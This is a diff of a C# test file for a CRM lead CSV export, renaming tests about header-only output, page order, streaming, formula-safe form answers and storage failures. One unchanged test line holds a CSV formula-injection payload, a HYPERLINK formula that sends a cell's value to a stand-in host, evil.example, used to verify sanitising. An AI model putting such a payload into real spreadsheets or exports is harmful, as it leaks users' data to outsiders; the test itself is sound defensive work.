@@ -52,7 +52,7 @@ public sealed class LeadCsvTests
     }
 
     [Fact]
-    public async Task Without_a_model_it_has_the_header_only() => Assert.Equal($"\uFEFF{Header}\r\n", await _app.Csv());
+    public async Task The_file_has_only_the_header_without_a_model() => Assert.Equal($"\uFEFF{Header}\r\n", await _app.Csv());
 
     [Fact]
     public async Task A_lead_is_a_line_for_each_model_under_which_it_passes()
@@ -72,7 +72,7 @@ public sealed class LeadCsvTests
     [InlineData("?minScore=30")]
     [InlineData("?grade=A3&sort=priority")]
     [InlineData("?to=nurture&route=warm")]
-    public async Task It_holds_what_the_pages_of_the_list_hold_in_their_order(string query)
+    public async Task The_file_has_the_leads_of_all_pages_in_their_order(string query)
     {
         await _app.Publish(CrmModel.Yaml);
         await _app.Send([.. Enumerable.Range(0, 30).SelectMany(static i => (string[])[.. Sent.Visits($"lead{i}@acme.example", i % 6, daysAgo: i % 4 * 9), Sent.Title($"lead{i}@acme.example", i % 5 == 0 ? "VP" : "Clerk")])]);
@@ -85,7 +85,7 @@ public sealed class LeadCsvTests
     }
 
     [Fact]
-    public async Task It_holds_all_leads_and_the_first_are_sent_before_the_last_are_read()
+    public async Task The_file_has_all_leads_and_is_sent_while_it_is_read()
     {
         await _app.Publish(CrmModel.Yaml);
         await Many();
@@ -115,7 +115,7 @@ public sealed class LeadCsvTests
     }
 
     [Fact]
-    public async Task What_people_wrote_into_forms_is_no_formula_in_any_cell_and_reads_back()
+    public async Task Form_answers_are_never_formulas_and_can_be_read_back()
     {
         await _app.Publish(CrmModel.Yaml);
         const string Evil = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"a\")";
@@ -129,7 +129,7 @@ public sealed class LeadCsvTests
     }
 
     [Fact]
-    public async Task Storage_that_fails_under_way_breaks_the_file_off_and_one_that_fails_before_is_an_error()
+    public async Task A_storage_failure_is_an_error_before_the_first_line_and_ends_the_file_later()
     {
         await _app.Publish(CrmModel.Yaml);
         await Many();
